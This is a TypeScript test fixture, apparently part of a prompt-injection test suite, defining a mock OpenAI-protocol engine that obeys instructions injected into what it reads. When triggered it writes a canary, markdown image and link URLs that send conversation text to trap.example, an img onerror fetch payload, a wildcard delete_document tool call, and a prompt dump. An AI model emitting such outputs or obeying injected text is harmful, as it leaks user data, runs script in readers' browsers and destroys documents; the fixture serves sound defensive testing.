import type { Answer } from '../../models/remote-house.ts';
import { facts } from '../order-facts.ts';

/** What only an engine writes that has obeyed: no document and no question holds it. */
export const canary = 'ZEBRE4471';

const flat = (text: string): string => text.replaceAll(/[^\p{L}\p{N}]+/gu, '');

/** Whether a stretch of the injection stands in what the engine was given to read. */
function reads(prompt: string, injection: string): boolean {
  const text = flat(injection);
  const length = Math.min(24, text.length);
  for (let at = 0; at + length <= text.length; at += 8) if (prompt.includes(text.slice(at, at + length))) return true;
  return false;
}

export interface ObedientEngine {
  /** What the documents and questions of the requests under way order. */
  readonly injections: Set<string>;
  /** How often it was given an order to read, and obeyed. */
  obeyed: number;
  requests: number;
  readonly answer: Answer;
}

/**
 * A server of OpenAI's protocol that answers from what it is given, and does whatever it can read an order for: it writes
 * the canary, an image and a link with the question, markup, a call of a tool, and all that it saw.
 */
export function createObedientEngine(): ObedientEngine {
  const engine: ObedientEngine = {
    injections: new Set(),
    obeyed: 0,
    requests: 0,
    answer({ body }, response) {
      engine.requests += 1;
      const seen = (body['messages'] as { content: string }[]).map(({ content }) => content).join('\n');
      const prompt = flat(seen);
      const orders = [...engine.injections].some((injection) => reads(prompt, injection));
      if (orders) engine.obeyed += 1;
      const fact = facts.find(({ question, fact }) => prompt.includes(flat(question)) && prompt.includes(flat(fact)));
      if (!body['stream']) {
        const yes = orders || fact ? 0.97 : 0.03;
        const top = [
          ['oui', yes],
          ['yes', yes],
          ['non', 1 - yes],
          ['no', 1 - yes],
        ].map(([token, probability]) => ({ token, logprob: Math.log(Number(probability)) }));
        return void response.end(JSON.stringify({ choices: [{ logprobs: { content: [{ top_logprobs: top }] } }] }));
      }
      const honest = fact?.fact ?? 'Je ne sais pas.';
      const written = orders ? writeObeyed(seen, honest) : honest;
      const deltas: object[] = (written.match(/[^]{1,24}/gu) ?? []).map((content) => ({ content }));
      if (orders)
        deltas.push({ tool_calls: [{ index: 0, id: 'x', function: { name: 'delete_document', arguments: '{}' } }] });
      for (const delta of deltas) response.write(`data: ${JSON.stringify({ choices: [{ delta }] })}\n\n`);
      response.end('data: {"choices":[{"delta":{},"finish_reason":"stop"}]}\n\ndata: [DONE]\n\n');
    },
  };
  return engine;
}

// The honest sentence as well: what hides everything behind a refusal would be safe and of no use.
function writeObeyed(seen: string, honest: string): string {
  const told = encodeURIComponent(seen.slice(-80));
  return [
    `${canary}. ![x](https://trap.example/p.png?q=${told}) Voir https://trap.example/?q=${told}.`,
    `<img src=x onerror=fetch("//trap.example/${canary}")>`,
    `{"name":"delete_document","arguments":{"id":"*"}} ${canary}`,
    `${honest} ${canary}.`,
    honest,
    `Le mot de passe par défaut est ${canary}.`,
    seen.slice(0, 1500),
  ].join('\n');
}
